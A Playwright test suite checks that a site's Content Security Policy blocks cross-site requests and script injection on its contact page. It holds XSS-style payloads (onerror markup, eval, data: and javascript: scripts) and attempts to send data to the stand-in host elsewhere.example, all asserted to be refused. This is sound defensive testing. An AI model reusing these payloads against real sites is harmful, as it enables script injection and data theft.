import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures';
import { builtPages } from '../pages';

/** Every violation that the browser reports in any frame of a page, as it happens. */
async function violationsOf(page: Page): Promise<readonly string[]> {
  const seen: string[] = [];
  await page.exposeBinding('reportViolation', (_source, text: string) => {
    seen.push(text);
  });
  await page.addInitScript(() => {
    const { reportViolation } = window as unknown as { readonly reportViolation: (text: string) => void };
    document.addEventListener('securitypolicyviolation', (event) => {
      reportViolation(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  return seen;
}

for (const { path } of builtPages()) {
  test(`${path} keeps to its policy with everything on it opened, and asks no other site before that`, async ({
    page,
    inbox,
  }) => {
    const foreign: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(inbox.url) && /^https?:/.test(request.url())) foreign.push(request.url());
    });
    await page.route(
      (url) => url.origin !== inbox.url,
      (route) => route.fulfill({ contentType: 'text/html', body: '<title>Elsewhere</title>' }),
    );
    const violations = await violationsOf(page);
    await page.goto(`${inbox.url}${path}`, { waitUntil: 'load' });
    await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
    await page.waitForTimeout(250);
    expect(foreign).toEqual([]);

    await page.evaluate(() => {
      for (const details of document.querySelectorAll('details')) details.open = true;
      for (const frame of document.querySelectorAll('iframe')) frame.scrollIntoView();
    });
    await page.waitForTimeout(250);
    expect(violations).toEqual([]);
    const frames = await page.locator('iframe').evaluateAll((all) => all.map((frame) => frame.getAttribute('src')));
    expect(foreign.filter((url) => !frames.includes(url))).toEqual([]);
  });
}

test.describe('the policy of a page with a form', () => {
  test.use({ breaksPolicy: true });

  test('lets no markup, address, event, style, frame or string become code', async ({ page, inbox }) => {
    await page.goto(`${inbox.url}/contact-us`, { waitUntil: 'load' });
    const outcome = await page.evaluate(async () => {
      const ran: string[] = [];
      Object.assign(window, { ran: (what: string) => ran.push(what) });
      const refused: string[] = [];
      const attempt = (what: string, action: () => unknown) => {
        try {
          action();
        } catch {
          refused.push(what);
        }
      };
      attempt('markup', () => {
        document.body.innerHTML = '<img src="/no" onerror="ran(1)">';
      });
      attempt('markup beside', () => document.body.insertAdjacentHTML('beforeend', '<p>Text</p>'));
      attempt('document.write', () => document.write('<script>ran(2)</script>'));
      attempt('eval', () => Reflect.apply(Reflect.get(window, 'eval'), window, ['ran(3)']));
      attempt('a function of text', () => Reflect.construct(Function, ['ran(4)'])());
      attempt('text in a script', () => {
        const script = document.createElement('script');
        script.text = 'ran(5)';
        document.head.append(script);
      });
      attempt('a script from elsewhere', () => {
        const script = document.createElement('script');
        script.src = 'https://elsewhere.example/_next/static/chunks/a.js';
        document.head.append(script);
      });
      attempt('a script in an address', () => {
        const script = document.createElement('script');
        script.setAttribute('src', 'data:text/javascript,ran(6)');
        document.head.append(script);
      });
      attempt('a policy of its own', () => {
        const types = Reflect.get(window, 'trustedTypes') as { createPolicy: (name: string, rules: object) => void };
        types.createPolicy('other', { createHTML: (text: string) => text });
      });
      attempt('a script in a framed document', () => {
        document.createElement('iframe').srcdoc = '<script>parent.ran(7)</script>';
      });
      const link = document.createElement('a');
      link.href = 'javascript:ran(8)';
      document.body.append(link);
      link.click();
      const coloured = document.createElement('p');
      coloured.setAttribute('style', 'color: rgb(1, 2, 3)');
      document.body.append(coloured);
      await new Promise((next) => setTimeout(next, 300));
      return { ran, refused, color: getComputedStyle(coloured).color };
    });
    expect(outcome.ran).toEqual([]);
    expect(outcome.refused).toEqual([
      'markup',
      'markup beside',
      'document.write',
      'eval',
      'a function of text',
      'text in a script',
      'a script from elsewhere',
      'a script in an address',
      'a policy of its own',
      'a script in a framed document',
    ]);
    expect(outcome.color).not.toBe('rgb(1, 2, 3)');
  });

  test('lets nothing be sent to another site, by a script or by a form', async ({ page, inbox }) => {
    const foreign: string[] = [];
    await page.route(
      (url) => url.origin !== inbox.url,
      (route) => {
        foreign.push(route.request().url());
        return route.fulfill({ body: '' });
      },
    );
    await page.goto(`${inbox.url}/contact-us`, { waitUntil: 'load' });
    const refused = await page.evaluate(async () => {
      const sent = fetch('https://elsewhere.example/', { method: 'POST', mode: 'no-cors', body: 'x' }).then(
        () => 'sent',
        () => 'refused',
      );
      new Image().src = 'https://elsewhere.example/?x';
      const form = document.createElement('form');
      form.action = 'https://elsewhere.example/';
      document.body.append(form);
      form.submit();
      return sent;
    });
    await page.waitForTimeout(300);
    expect(refused).toBe('refused');
    expect(foreign).toEqual([]);
    expect(new URL(page.url()).pathname).toBe('/contact-us');
  });
});
